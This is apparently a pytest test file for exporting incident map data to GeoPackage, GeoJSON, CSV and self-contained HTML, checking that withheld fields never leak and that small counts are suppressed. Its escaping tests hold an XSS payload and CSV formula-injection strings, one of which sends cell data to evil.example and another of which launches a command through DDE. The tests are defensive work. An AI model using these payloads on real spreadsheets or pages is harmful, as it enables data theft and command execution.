"""Exports of the selection: every layer in a GeoPackage, and nothing withheld in any file."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import re

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest

from briefing.disclosure import (
    LEVELS,
    SHAREABLE_MIN_COUNT,
    WITHHELD_COLUMNS,
    Disclosure,
)
from briefing.exports import (
    FORMATS,
    about,
    export,
    export_layers,
    incident_cells_layer,
    to_csv,
    to_geojson,
    to_html,
    write_gpkg,
)
from briefing.selection import prepare
from layers.assets import VENDOR_DIR
from schema.filters import IncidentFilter
from schema.mission import SAMPLE_DIR, load_sample
from tests.briefing.clustered import NARRATIVE, clumped
from tests.tiny_mission import XSS, tiny_mission

OTHER_LAYERS = [
    "local_processes",
    "local_agreements",
    "national_milestones",
    "mission_presence",
    "admin_boundaries",
]
SHAREABLE_CELL_COLUMNS = {"cell_id", "incidents", "dominant_motivation", "bin", "hot_spot"}
# HTML, JS template literal and script-block breakers (as in the browser tests).
HOSTILE = XSS + "${alert(document.domain)}`</script><script>alert(3)</script><svg onload=alert(4)>"
# Seven incidents in one spot, three in another far away, four in a third.
CLUMPS = [(1.25, -2.75, 7, "revenge"), (2.75, -2.25, 3, "predation"), (2.3, -2.8, 4, "political")]
VENDOR_CODE = [
    VENDOR_DIR / "leaflet" / "leaflet.js",
    VENDOR_DIR / "leaflet.markercluster" / "leaflet.markercluster.js",
    VENDOR_DIR / "leaflet.heat" / "leaflet-heat.js",
]


@pytest.fixture(scope="module")
def sample():
    return load_sample()


@pytest.fixture(scope="module")
def prepared(sample):
    """The whole sample prepared at each level."""
    return {level: prepare(sample, disclosure=Disclosure(level)) for level in LEVELS}


@pytest.fixture(scope="module")
def files(prepared, tmp_path_factory):
    """Every format at every level, written by :func:`export`: ``{(level, fmt): path}``."""
    folder = tmp_path_factory.mktemp("exports")
    return {
        (level, fmt): export(prepared[level], fmt, folder / f"{level}.{fmt}")
        for level in LEVELS
        for fmt in FORMATS
    }


@pytest.mark.parametrize("level", LEVELS)
def test_the_geopackage_holds_every_layer_with_its_rows(level, prepared, files):
    shown = prepared[level]
    path = files[(level, "gpkg")]
    incidents = "incidents" if level == "points" else "incident_cells"
    listed = dict(pyogrio.list_layers(path))
    assert set(listed) == {incidents, *OTHER_LAYERS, "about"}
    assert listed["national_milestones"] is None and listed["about"] is None  # tables
    expected = {
        incidents: shown.incident_count if level == "points" else len(shown.cells.cells),
        "local_processes": len(shown.local_processes),
        "local_agreements": len(shown.agreements),
        "national_milestones": len(shown.data.national_milestones),
        "mission_presence": len(shown.data.mission_presence),
        "admin_boundaries": len(shown.data.admin_boundaries),
    }
    for name, rows in expected.items():
        layer = pyogrio.read_dataframe(path, layer=name)
        assert len(layer) == rows > 0, name
        assert not WITHHELD_COLUMNS & set(layer.columns), name
        if isinstance(layer, gpd.GeoDataFrame):
            assert layer.crs.to_epsg() == 4326, name
    table = pyogrio.read_dataframe(path, layer=incidents)
    if level == "points":
        # Typed fields, not text: a GIS can sum the fatalities.
        assert pd.api.types.is_integer_dtype(table["fatalities"])
        assert table["fatalities"].sum() == shown.data.incidents["fatalities"].sum()
    else:
        assert table["incidents"].sum() == shown.cells.shown_incidents
        if level == "shareable":
            assert set(table.columns) == SHAREABLE_CELL_COLUMNS | {"geometry"}
            assert (table["incidents"] >= SHAREABLE_MIN_COUNT).all()
    read_me = pyogrio.read_dataframe(path, layer="about").set_index("key")["value"]
    assert read_me["level"] == shown.disclosure.describe()
    assert read_me["period"] == "1 Jan 2023 to 31 Dec 2025"
    assert read_me["selection"] == "All incidents (no filter)"
    assert dt.datetime.fromisoformat(read_me["generated_utc"]).utcoffset() == dt.timedelta(0)


def test_the_geopackage_replaces_an_old_file(prepared, tmp_path):
    path = tmp_path / "old.gpkg"
    path.write_bytes(b"not a geopackage")
    export(prepared["shareable"], "gpkg", path)
    assert "incident_cells" in dict(pyogrio.list_layers(path))
    export(prepared["points"], "gpkg", path)
    assert "incident_cells" not in dict(pyogrio.list_layers(path))  # not appended to
    assert sorted(p.name for p in tmp_path.iterdir()) == ["old.gpkg"]  # no partial left


def test_a_plain_table_is_an_attribute_table(tmp_path):
    layers = {"notes": pd.DataFrame({"key": ["a", "b"], "value": [1, None]})}
    path = write_gpkg(layers, tmp_path / "t.gpkg")
    assert pyogrio.list_layers(path).tolist() == [["notes", None]]
    assert pyogrio.read_dataframe(path, layer="notes")["key"].tolist() == ["a", "b"]


def _withheld_values(sample) -> dict[str, list[str]]:
    """Text of the withheld columns that no export may contain (names that the political
    layers also carry, as parties to an agreement, are left out)."""
    political = " ".join(
        (SAMPLE_DIR / name).read_text(encoding="utf-8")
        for name in (
            "local_agreements.geojson",
            "local_processes.geojson",
            "national_milestones.csv",
        )
    )
    names = sample.incidents["perpetrator_name"].dropna().unique()
    return {
        "narrative": sorted(set(sample.incidents["narrative"].dropna())),
        "perpetrator_name": [n for n in names if n not in political],
        "incident_id": sorted(sample.incidents["incident_id"]),
    }


def test_no_narrative_name_or_id_is_in_any_file(sample, files):
    withheld = _withheld_values(sample)
    # Every narrative of the sample is marked, so one search finds any of them.
    assert all(n.startswith("[SYNTHETIC] ") for n in withheld["narrative"])
    assert all(re.fullmatch(r"INC-\d{6}", i) for i in withheld["incident_id"])
    assert len(withheld["perpetrator_name"]) > 40
    for (level, fmt), path in files.items():
        text = path.read_bytes().decode("utf-8", errors="replace")
        assert "[SYNTHETIC]" not in text, (level, fmt)
        assert "INC-0" not in text, (level, fmt)
        for name in withheld["perpetrator_name"]:
            assert name not in text and json.dumps(name)[1:-1] not in text, (level, fmt, name)


def test_no_withheld_column_in_any_layer(prepared):
    for level, shown in prepared.items():
        layers = export_layers(shown)
        for name, layer in layers.items():
            assert not WITHHELD_COLUMNS & set(layer.columns), (level, name)
            if isinstance(layer, gpd.GeoDataFrame):
                assert layer.crs.to_epsg() == 4326, (level, name)
        geojson = json.loads(to_geojson(shown))
        keys = set().union(*(f["properties"] for f in geojson["features"]))
        assert not WITHHELD_COLUMNS & keys, level
        header = next(csv.reader(io.StringIO(to_csv(shown).decode("utf-8-sig"))))
        assert not WITHHELD_COLUMNS & set(header), level


def test_narratives_of_a_small_mission_stay_out_at_every_level():
    data = clumped(CLUMPS)
    for level in LEVELS:
        shown = prepare(data, disclosure=Disclosure(level, cell_km=None))
        html = _without_vendor_code(to_html(shown))
        for content in (to_geojson(shown), to_csv(shown), html.encode()):
            assert NARRATIVE.encode() not in content
            assert b"Secret-Name" not in content and b"C-1" not in content


def test_shareable_geojson_shows_no_small_cell_and_accounts_for_every_incident(prepared):
    shown = prepared["shareable"]
    features = json.loads(to_geojson(shown))["features"]
    counts = [f["properties"]["incidents"] for f in features]
    assert min(counts) >= SHAREABLE_MIN_COUNT
    assert sum(counts) + shown.cells.suppressed_incidents == shown.incident_count == 4943
    assert shown.cells.suppressed_incidents > 0
    for feature in features:
        assert set(feature["properties"]) == SHAREABLE_CELL_COLUMNS
        assert feature["geometry"]["type"] == "Polygon"
        lon, lat = feature["geometry"]["coordinates"][0][0]
        assert 0 < lon < 6 and -7 < lat < 0  # degrees (Carana), not metres


def test_shareable_geojson_of_clumps():
    shown = prepare(clumped(CLUMPS), disclosure=Disclosure("shareable", cell_km=10))
    features = json.loads(to_geojson(shown))["features"]
    assert [f["properties"]["incidents"] for f in features] == [7]
    assert features[0]["properties"]["dominant_motivation"] == "revenge"
    assert shown.cells.suppressed_incidents == 7


def _rows(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # for Excel
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_points_csv_has_rounded_coordinates_instead_of_a_geometry(prepared):
    shown = prepared["points"]
    rows = _rows(to_csv(shown))
    assert len(rows) == shown.incident_count
    assert "geometry" not in rows[0] and list(rows[0])[-2:] == ["longitude", "latitude"]
    assert rows[0]["date"] == "2023-01-01"
    assert all(len(r["longitude"].split(".")[-1]) <= 5 for r in rows)
    assert float(rows[0]["longitude"]) == round(shown.points.geometry.x.iloc[0], 5)
    assert float(rows[0]["latitude"]) == round(shown.points.geometry.y.iloc[0], 5)
    assert not any("POINT" in v for r in rows[:50] for v in r.values())


def test_cells_csv_gives_each_cells_centre(prepared):
    shown = prepared["cells"]
    rows = _rows(to_csv(shown))
    cells = shown.cells.cells.to_crs("EPSG:4326")
    assert len(rows) == len(cells)
    assert "geometry" not in rows[0]
    centres = gpd.points_from_xy(
        [float(r["longitude"]) for r in rows], [float(r["latitude"]) for r in rows], crs=4326
    )
    assert cells.geometry.contains(gpd.GeoSeries(centres, index=cells.index)).all()
    assert sum(int(r["incidents"]) for r in rows) == shown.incident_count


def test_csv_neutralises_formulas():
    data = tiny_mission()
    hostile = data.incidents.copy()
    hostile["source"] = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    hostile["field_office"] = "=cmd|' /C calc'!A0"
    hostile["admin2"] = "@SUM(1+1)"
    data = dataclasses.replace(data, incidents=hostile)
    rows = _rows(to_csv(prepare(data, disclosure=Disclosure("points"))))
    assert len(rows) == 8
    for row in rows:
        assert row["source"] == "'" + hostile["source"].iloc[0]
        assert row["field_office"] == "'=cmd|' /C calc'!A0"
        assert row["admin2"] == "'@SUM(1+1)"
        assert float(row["latitude"]) < 0  # numbers stay numbers


def _without_vendor_code(html: str) -> str:
    """``html`` without the inlined Leaflet files (Leaflet itself must be there)."""
    assert VENDOR_CODE[0].read_text(encoding="utf-8") in html, "Leaflet is inlined"
    for path in VENDOR_CODE:
        html = html.replace(path.read_text(encoding="utf-8"), "")
    return html


@pytest.mark.parametrize("level", LEVELS)
def test_the_html_map_stands_alone(level, files):
    html = files[(level, "html")].read_text(encoding="utf-8")
    assert "<script src=" not in html and "<link" not in html
    # Leaflet names its own website in the attribution it draws (a link, never fetched).
    page = _without_vendor_code(html)
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", page)
    assert "url(images/" not in html and "data:image/png;base64," in html
    assert "pocmap-inline" not in html
    assert "pocmap-legend" in html  # the legend is inside the map
    assert ("Incidents per cell" in page) == (level != "points")
    assert ("L.markerClusterGroup(" in page) == (level == "points")


def test_points_html_has_no_incident_ids(prepared):
    html = to_html(prepared["points"])
    rows = re.search(r"var rows = (\[.*?\]);\n", html)
    assert rows, "the incident rows"
    first = json.loads(rows.group(1))[0]
    assert first[3] == ""  # the popup's "Incident" field: blank, so it is left out


@pytest.mark.parametrize("level", LEVELS)
def test_hostile_text_is_escaped_in_the_html(level):
    data = tiny_mission(HOSTILE)
    shown = prepare(data, disclosure=Disclosure(level, cell_km=None if level == "shareable" else 5))
    html = _without_vendor_code(to_html(shown))
    assert HOSTILE not in html
    for raw in ("<script>alert", "<img src=x", "<svg onload", "</script><script>"):
        assert raw not in html, raw
    assert html.count("<script>") == html.count("</script>")
    assert "Narrative" not in html


def test_cells_layer_escapes_and_draws_nothing_when_empty(prepared):
    cells = prepared["cells"].cells.cells
    assert not incident_cells_layer(cells.iloc[:0])._children
    group = incident_cells_layer(cells, name="<b>cells</b>")
    assert group.layer_name == "&lt;b&gt;cells&lt;/b&gt;"


def test_about_says_what_the_file_holds():
    data = clumped([(1.25, -2.75, 3, "revenge")])
    when = dt.datetime(2026, 12, 4, 10, 30, tzinfo=dt.timezone(dt.timedelta(hours=1)))
    selection = IncidentFilter(motivations=frozenset({"revenge"}))
    table = about(prepare(data, selection), generated_at=when).set_index("key")["value"]
    assert table["incidents"] == "fewer than 5"
    assert table["suppressed_incidents"] == "fewer than 5"
    assert table["selection"] == "Motivation: Revenge"
    assert table["cell_km"] == "5"
    assert table["generated_utc"] == "2026-12-04T09:30:00+00:00"
    points = about(prepare(data, disclosure=Disclosure("points", precision_km=2)))
    assert points.set_index("key")["value"]["precision_km"] == "2"


def test_office_filter_narrows_the_political_layers(sample):
    selection = IncidentFilter(field_offices=frozenset({"Field Office South"}))
    layers = export_layers(prepare(sample, selection))
    for name in ("local_processes", "local_agreements"):
        offices = set(layers[name]["field_office"])
        assert offices == {"Field Office South"}, name
    assert len(layers["mission_presence"]) == len(sample.mission_presence)


def test_an_unknown_format_is_refused(prepared, tmp_path):
    with pytest.raises(ValueError, match=r"`fmt` was 'pdf' but is expected to be in \('gpkg'"):
        export(prepared["shareable"], "pdf", tmp_path / "x.pdf")
    assert not (tmp_path / "x.pdf").exists()
